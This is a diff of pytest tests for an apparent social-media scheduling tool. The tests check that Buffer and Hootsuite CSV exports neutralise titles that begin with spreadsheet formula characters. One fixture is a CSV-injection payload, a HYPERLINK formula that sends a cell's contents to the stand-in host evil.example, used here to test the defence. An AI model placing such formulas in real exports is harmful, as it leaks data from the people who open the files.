@@ -313,3 +313,61 @@ def test_bad_slot_settings_name_key_value_and_form(tmp_path):
     assert "unknown platform 'myspace'" in message
     result = run_outreach(project, "social")
     assert result.returncode == 2 and "Traceback" not in result.stderr
+
+
+# --- spreadsheet-safe exports ------------------------------------------------------------
+
+HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_a_formula_title_is_never_a_live_cell_in_the_buffer_and_hootsuite_csvs(tmp_path):
+    """A post titled like a spreadsheet formula, built for real, scheduled by ``python -m outreach social``."""
+    from conftest import ROOT
+
+    content = tmp_path / "content"
+    shutil.copytree(ROOT / "content", content)
+    source = content / "posts" / "reheating-bread-and-pastries.md"
+    text = source.read_text(encoding="utf-8")
+    text = text.replace("Title: Reheating Bread and Pastries So They Taste Just-Baked", f"Title: {HOSTILE_TITLE}")
+    text = text.replace("Description: Our guide", "Description: +Our guide")
+    source.write_text(text, encoding="utf-8")
+    project = make_project(tmp_path / "site", f"PATH = {str(content)!r}\n")
+    build_project(project, DEMO_NOW)
+    assert project.feed["items"][0]["title"] == HOSTILE_TITLE
+
+    result = social(project)
+    assert result.returncode == 0, result.stderr
+    folder = project.reports / "social"
+    paths = sorted(folder.glob("*.csv"))
+    assert {p.name for p in paths} == {f"{kind}-{platform}.csv" for kind in ("buffer", "hootsuite")
+                                       for platform in ("facebook", "google-business")}
+    for path in paths:
+        with path.open(encoding="utf-8", newline="") as fh:
+            rows = list(csv.reader(fh))
+        assert rows
+        for row in rows:
+            for cell in row:
+                assert not cell.startswith(FORMULA_STARTS), (path.name, cell)
+    hootsuite, buffer = read_exports(folder)
+    # The text is kept, behind the apostrophe a spreadsheet shows as text.
+    assert hootsuite["facebook"][0][1].startswith("'" + HOSTILE_TITLE + "\n\n+Our guide")
+    assert buffer["facebook"][0]["Text"].startswith("'" + HOSTILE_TITLE)
+    assert hootsuite["facebook"][0][2].startswith("https://")  # links and times are left as they are
+    # The ledger and the preview keep the title as written.
+    records = [json.loads(line) for line in (project.state / "social.jsonl").read_text().splitlines()]
+    assert {r["title"] for r in records} == {HOSTILE_TITLE}
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS + ("'",))
+def test_every_formula_start_is_neutralised_in_both_csvs(start):
+    from outreach.social import buffer_csv, hootsuite_csv
+
+    row = {"at": "2026-11-26T10:00:00-05:00", "message": f"{start}1+1", "text": f"{start}1+1 https://x.example/",
+           "link": "https://x.example/", "image": None, "slug": f"{start}slug", "kind": "new"}
+    for data in (hootsuite_csv([row], NY, SOCIAL_DEFAULTS), buffer_csv([row], NY, SOCIAL_DEFAULTS)):
+        rows = [r for r in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) if r != list(BUFFER_COLUMNS)]
+        assert len(rows) == 1
+        for cells in rows:
+            assert all(not c.startswith(FORMULA_STARTS) for c in cells), cells
+            assert any(c == f"'{start}1+1" or c.startswith(f"'{start}1+1 ") for c in cells), cells
